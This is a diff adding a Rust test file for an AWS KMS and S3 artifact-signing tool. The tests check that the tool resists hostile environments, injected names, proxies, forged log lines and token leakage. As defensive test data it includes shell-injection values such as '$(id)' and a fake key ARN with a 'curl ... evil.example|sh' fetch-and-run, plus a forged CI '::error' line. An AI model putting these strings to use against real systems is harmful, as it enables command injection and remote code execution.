@@ -1,0 +1,354 @@
+//! What surrounds a run may be hostile or odd: who names things, what a file really is, where a proxy
+//! stands, what a server writes into a log.
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+use std::os::unix::fs::PermissionsExt as _;
+use std::process::Command;
+
+use rustix::fs::{CWD, FileType, Mode};
+use serde_json::Value;
+
+use crate::support::aws_server::{Key, Subject, kms_error};
+use crate::support::s3_server::Reply;
+use crate::support::workshop::{EVERYTHING, ROLE, ROLE_ARN, SIGN, Workshop, trust};
+
+fn code(json: &Value) -> &str {
+    json["error"]["code"].as_str().unwrap()
+}
+
+/// What a shell makes of the words that are printed to be pasted: they are shown, not run.
+#[track_caller]
+fn words(line: &str) -> Vec<String> {
+    let script = format!("for word in {line}; do printf '%s\\n' \"$word\"; done");
+    let shell = Command::new("sh")
+        .args(["-c", &script])
+        .env_clear()
+        .output();
+    let shell = shell.unwrap();
+    assert!(shell.stderr.is_empty(), "{line}");
+    let text = String::from_utf8(shell.stdout).unwrap();
+    text.lines().map(str::to_owned).collect()
+}
+
+/// The command behind `start` in a help line.
+fn printed(help: &str, start: &str) -> String {
+    let (_, rest) = help.split_once(&format!("`{start}")).unwrap();
+    // Not the next backtick: what is quoted may hold one.
+    let rest = rest.rsplit_once('`').unwrap().0;
+    format!("{start}{rest}")
+}
+
+#[test]
+fn a_command_to_paste_is_one_whoever_named_the_things_in_it() {
+    let hostile = "x;touch${IFS}pwned|`id`$(id)'";
+    let shop = Workshop::in_github(EVERYTHING);
+    let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json --audience {hostile}");
+    let json = shop.s3lo(&line).ends_with(2).json();
+    let help = json["error"]["help"].as_str().unwrap();
+    let command = printed(help, "aws iam add-client-id-to-open-id-connect-provider");
+    assert_eq!(words(&command).last().map(String::as_str), Some(hostile));
+}
+
+#[test]
+fn a_key_that_a_server_makes_up_is_not_printed_to_be_pasted() {
+    let shop = Workshop::new();
+    shop.aws.fault(|_| {
+        let key = "arn:aws:kms:us-east-1:111122223333:key/a;curl${IFS}evil.example|sh";
+        Some(kms_error(
+            400,
+            "DisabledException",
+            &format!("{key} is disabled."),
+        ))
+    });
+    let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+    let help = json["error"]["help"].as_str().unwrap();
+    assert!(
+        help.ends_with("`aws kms enable-key --key-id KEY-ID`"),
+        "{help}"
+    );
+}
+
+#[test]
+fn a_role_is_named_in_the_alphabet_of_roles() {
+    let shop = Workshop::in_github(EVERYTHING);
+    for name in ["$(id)", "a;b", "", "a/", "a b"] {
+        let arn = format!("arn:aws:iam::111122223333:role/{name}");
+        let line = [
+            "sign",
+            "s3://b/a:v1",
+            "--key",
+            "awskms:///alias/a",
+            "--role-arn",
+            &arn,
+        ];
+        shop.desk.run(&line).ends_with(2);
+    }
+    assert!(shop.aws.calls().is_empty());
+}
+
+#[test]
+fn a_pipe_that_nobody_writes_to_does_not_hold_up_the_run() {
+    for variable in [
+        "AWS_CA_BUNDLE",
+        "AWS_CONFIG_FILE",
+        "AWS_SHARED_CREDENTIALS_FILE",
+        "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
+    ] {
+        let mut shop = Workshop::new();
+        rustix::fs::mknodat(CWD, shop.desk.file("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
+        shop.desk.set(variable, "pipe");
+        let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+        assert_eq!(code(&json), "configuration", "{variable}");
+    }
+    // A token may well come from a pipe, which is waited for as long as the run may take.
+    let shop = Workshop::in_github(EVERYTHING);
+    rustix::fs::mknodat(CWD, shop.desk.file("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
+    let role = format!("--role-arn {ROLE_ARN} --web-identity-token-file pipe");
+    let json = shop.s3lo(&format!("{SIGN} {role} --timeout 500ms -o json"));
+    assert_eq!(code(&json.ends_with(2).json()), "timed_out");
+}
+
+#[test]
+fn every_credentials_are_checked_against_the_allowed_accounts() {
+    let mut shop = Workshop::new();
+    let own = shop.aws.user("own", EVERYTHING);
+    let log = shop.desk.file("log");
+    // Credentials that end at once are asked for again before every call; the second ones are unknown.
+    shop.desk.write(
+        "process",
+        format!(
+            r#"#!/bin/sh
+echo >>{log}
+if [ "$(wc -l <{log})" -gt 1 ]; then id=AKIAOTHER; else id={id}; fi
+end=$(date -u -d '+5 seconds' +%Y-%m-%dT%H:%M:%SZ)
+echo '{{"Version": 1, "AccessKeyId": "'$id'", "SecretAccessKey": "{secret}", "Expiration": "'$end'"}}'
+"#,
+            log = log.display(),
+            id = own.access_key_id,
+            secret = own.secret_access_key,
+        ),
+    );
+    let process = shop.desk.file("process");
+    std::fs::set_permissions(&process, std::fs::Permissions::from_mode(0o700)).unwrap();
+    let config = format!("[default]\ncredential_process = {}\n", process.display());
+    shop.desk.write("config", config);
+    for name in ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"] {
+        shop.desk.unset(name);
+    }
+    shop.desk.set("AWS_CONFIG_FILE", "config");
+    shop.desk.set("PATH", "/usr/bin:/bin");
+    let line = format!("{SIGN} --allowed-account 111122223333 -o json");
+    shop.s3lo(&line);
+    let asked = shop.count("GetCallerIdentity");
+    let given = std::fs::read_to_string(&log).unwrap().lines().count();
+    assert!(given > 1, "they were fetched once");
+    assert_eq!(asked, given, "each credentials are asked about");
+    // And what belongs to nobody is not used.
+    for call in shop.aws.calls() {
+        let authorization = call
+            .headers
+            .get("authorization")
+            .cloned()
+            .unwrap_or_default();
+        let unknown = authorization.contains("AKIAOTHER");
+        assert!(
+            !unknown || call.action == "GetCallerIdentity",
+            "{}",
+            call.action
+        );
+    }
+}
+
+#[test]
+fn a_key_of_another_account_does_not_hear_of_us() {
+    let shop = Workshop::new();
+    let key =
+        "awskms:///arn:aws:kms:us-east-1:999999999999:key/1234abcd-12ab-34cd-56ef-1234567890ab";
+    for command in ["sign", "verify"] {
+        let line = format!("{command} s3://my-bucket/myapp:v1.0 --key {key}");
+        let run = shop.s3lo(&format!("{line} --allowed-account 111122223333 -o json"));
+        assert_eq!(code(&run.ends_with(2).json()), "account_not_allowed");
+    }
+    assert_eq!(shop.actions(), Vec::<String>::new());
+}
+
+#[test]
+fn role_and_token_of_kubernetes_belong_together() {
+    let mut shop = Workshop::in_github(EVERYTHING);
+    let subject = "system:serviceaccount:ci:signer";
+    let token = shop.aws.identity_token(subject, "sts.amazonaws.com", 600);
+    shop.desk.write("token", token);
+    let mut trust = trust();
+    trust.subject = Subject::Equals(subject.to_owned());
+    shop.aws.role(ROLE, &trust, EVERYTHING);
+    shop.desk.set("AWS_ROLE_ARN", ROLE_ARN);
+    shop.desk.set("AWS_WEB_IDENTITY_TOKEN_FILE", "token");
+    // The job could ask GitHub as well, for a token that this role does not trust.
+    shop.s3lo(SIGN).ends_with(0);
+    assert_eq!(shop.count("token"), 0);
+    // Who names a profile does not get the role.
+    shop.desk.set("AWS_PROFILE", "missing");
+    let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+    assert_eq!(code(&json), "no_credentials");
+    assert_eq!(shop.count("AssumeRoleWithWebIdentity"), 1);
+}
+
+/// A proxy that writes down what it is asked, and answers nothing.
+fn eavesdropper() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    let heard = std::sync::Arc::<std::sync::Mutex<Vec<String>>>::default();
+    let told = std::sync::Arc::clone(&heard);
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let mut stream = stream.unwrap();
+            let mut bytes = [0; 4096];
+            let length = stream.read(&mut bytes).unwrap_or_default();
+            let text = String::from_utf8_lossy(&bytes[..length]).into_owned();
+            told.lock().unwrap().push(text);
+            let _ = stream.write_all(b"HTTP/1.1 502 No\r\ncontent-length: 0\r\n\r\n");
+        }
+    });
+    (url, heard)
+}
+
+#[test]
+fn credentials_of_this_host_pass_no_proxy() {
+    let (proxy, heard) = eavesdropper();
+    let mut shop = Workshop::in_github(EVERYTHING);
+    shop.desk.set("HTTP_PROXY", &proxy);
+    shop.s3lo(&format!("{SIGN} --role-arn {ROLE_ARN}"))
+        .ends_with(0);
+    // A container's credentials: nobody answers there, and no proxy is asked in its place.
+    let mut shop = Workshop::without_credentials(
+        crate::support::aws_server::AwsServer::start(),
+        Key::of_vector("p256-pkcs8"),
+    );
+    shop.desk.set("HTTP_PROXY", &proxy);
+    shop.desk
+        .set("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials");
+    shop.s3lo(&format!("{SIGN} --timeout 1s")).ends_with(2);
+    assert_eq!(*heard.lock().unwrap(), Vec::<String>::new());
+}
+
+#[test]
+fn a_server_writes_no_lines_of_its_own_into_the_log() {
+    let shop = Workshop::new();
+    shop.aws.fault(|_| {
+        let message = "oops\\n::error file=a::forged\\u202e";
+        Some(kms_error(500, "KMSInternalException", message).header("x-odd", "a"))
+    });
+    let run = shop.s3lo(&format!("{SIGN} -v")).ends_with(2);
+    let odd: Vec<_> = run
+        .err
+        .lines()
+        .filter(|line| line.starts_with("::"))
+        .collect();
+    assert_eq!(odd, Vec::<&str>::new());
+    assert!(run.err.contains("forged") && !run.err.contains('\u{202e}'));
+}
+
+#[test]
+fn an_identity_token_travels_by_tls_or_stays_on_this_machine() {
+    for variable in ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_STS"] {
+        let mut shop = Workshop::in_github(EVERYTHING);
+        shop.desk.unset("AWS_ENDPOINT_URL_STS");
+        shop.desk.set(variable, "http://minio.invalid:9000");
+        let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json");
+        let json = shop.s3lo(&line).ends_with(2).json();
+        assert_eq!(code(&json), "configuration");
+        assert_eq!(shop.actions(), Vec::<String>::new());
+    }
+}
+
+#[test]
+fn an_agent_that_floods_is_cut_short() {
+    let mut shop = Workshop::in_github(EVERYTHING);
+    for name in ["GITHUB_ACTIONS", "ACTIONS_ID_TOKEN_REQUEST_URL"] {
+        shop.desk.unset(name);
+    }
+    shop.desk
+        .write("bin/buildkite-agent", "#!/bin/sh\nexec yes\n");
+    let agent = shop.desk.file("bin/buildkite-agent");
+    std::fs::set_permissions(agent, std::fs::Permissions::from_mode(0o700)).unwrap();
+    let bin = shop.desk.file("bin");
+    shop.desk
+        .set("PATH", &format!("{}:/usr/bin:/bin", bin.display()));
+    shop.desk.set("BUILDKITE", "true");
+    let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json");
+    let json = shop.desk.s3lo_within(64, &line).ends_with(2).json();
+    assert_eq!(code(&json), "no_identity_token");
+}
+
+#[test]
+fn a_token_that_is_typed_is_not_repeated() {
+    let shop = Workshop::in_github(EVERYTHING);
+    let token = shop
+        .aws
+        .identity_token("repo:acme/app", "sts.amazonaws.com", 600);
+    for flag in [
+        "--role-arn",
+        "--region",
+        "--key",
+        "--web-identity-token-file",
+        "--web-identity-token-env",
+        "--audience",
+        "",
+    ] {
+        for line in [
+            format!("{SIGN} {flag} {token}"),
+            format!("{SIGN} {flag}={token}"),
+        ] {
+            let run = shop.s3lo(&line).ends_with(2);
+            let signature = token.rsplit('.').next().unwrap();
+            assert!(!run.err.contains(signature), "{flag}: {}", run.err);
+        }
+    }
+}
+
+#[test]
+fn where_there_are_no_certificates_the_error_says_so() {
+    let mut shop = Workshop::without_credentials(
+        crate::support::aws_server::AwsServer::start_tls(),
+        Key::of_vector("p256-pkcs8"),
+    );
+    let user = shop.aws.user("dev", EVERYTHING);
+    shop.set(&user.environment());
+    shop.desk.write("empty.pem", "");
+    shop.desk.set("SSL_CERT_FILE", "empty.pem");
+    shop.desk.set("AWS_MAX_ATTEMPTS", "1");
+    let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+    assert_eq!(code(&json), "unreachable");
+    let help = json["error"]["help"].as_str().unwrap();
+    assert!(help.contains("SSL_CERT_FILE"), "{help}");
+}
+
+#[test]
+fn a_refused_write_is_allowed_for_signatures_alone() {
+    let shop = Workshop::new();
+    shop.s3.fault(|request| {
+        let arn = "arn:aws-us-gov:s3:::my-bucket/manifests/myapp";
+        let message = format!("not authorized to perform: s3:PutObject on resource: {arn}");
+        (request.method == "PUT").then(|| Reply::error(403, "AccessDenied", &message))
+    });
+    let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+    let help = json["error"]["help"].as_str().unwrap();
+    let resource = r#""Resource": "arn:aws-us-gov:s3:::my-bucket/manifests/*/signatures/*""#;
+    assert!(help.contains(resource), "{help}");
+}
+
+#[test]
+fn a_flag_that_would_guard_nothing_is_refused() {
+    let shop = Workshop::new();
+    shop.desk.push("myapp", "v1.0", crate::support::MANIFEST);
+    let line = "verify local://./store/myapp:v1.0 --key keys/cosign.pub";
+    for flag in [
+        "--allowed-account 111122223333".to_owned(),
+        "--expected-bucket-owner 111122223333".to_owned(),
+        format!("--role-arn {ROLE_ARN}"),
+    ] {
+        let run = shop.s3lo(&format!("{line} {flag} -o json")).ends_with(2);
+        assert_eq!(code(&run.json()), "usage", "{flag}");
+    }
+}
